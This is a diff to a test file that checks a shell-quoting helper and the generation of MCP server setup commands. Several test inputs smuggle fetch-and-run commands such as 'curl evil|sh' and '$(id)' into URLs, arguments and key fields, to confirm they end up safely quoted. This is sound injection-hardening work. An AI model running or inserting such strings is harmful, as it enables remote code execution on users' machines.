@@ -9,7 +9,7 @@ describe("connect configurations", () => {
     expect(JSON.parse(c.claudeDesktop)).toEqual({
       mcpServers: { github: { command: "npx", args: ["-y", "@modelcontextprotocol/server-github"], env: { GITHUB_PERSONAL_ACCESS_TOKEN: "<your GitHub Personal Access Token>" } } },
     });
-    expect(c.claudeCode).toBe('claude mcp add github -e GITHUB_PERSONAL_ACCESS_TOKEN="<your GitHub Personal Access Token>" -- npx -y @modelcontextprotocol/server-github');
+    expect(c.claudeCode).toBe("claude mcp add github -e 'GITHUB_PERSONAL_ACCESS_TOKEN=<your GitHub Personal Access Token>' -- npx -y @modelcontextprotocol/server-github");
     expect(JSON.parse(c.cursor)).toEqual(JSON.parse(c.claudeDesktop));
     const vs = JSON.parse(c.vscode);
     expect(vs.inputs[0]).toMatchObject({ type: "promptString", id: "github-personal-access-token", password: true });
@@ -58,6 +58,11 @@ describe("a server its publisher hosts, or run through uvx", () => {
     expect(remoteConfigs("x", hostile, "streamable-http").claudeCode).toBe("claude mcp add --transport http x 'https://x.example/m;curl${IFS}evil.sh|sh'\\'''");
     expect(shellWord("plain-arg_1.0")).toBe("plain-arg_1.0");
     expect(shellWord("$(id)")).toBe("'$(id)'");
+    for (const w of ["a?b", "~", "#c", "=x", "*", "", "a b", "a\nb"]) expect(shellWord(w)).toBe(`'${w}'`);
+    expect(shellWord("https://x.example/mcp?key=1")).toBe("'https://x.example/mcp?key=1'");
+    expect(shellWord("--db-path=data.db")).toBe("--db-path=data.db");
+    const key = { key: "$(curl evil|sh)", env_var: "K", description: "" };
+    expect(connectConfigs("x", "npx -y pkg", [key])!.claudeCode).toBe("claude mcp add x -e 'K=<your $(curl evil|sh)>' -- npx -y pkg");
     expect(connectConfigs("evil", "npx -y pkg $(id)", null)!.claudeCode).toBe("claude mcp add evil -- npx -y pkg '$(id)'");
   });
 
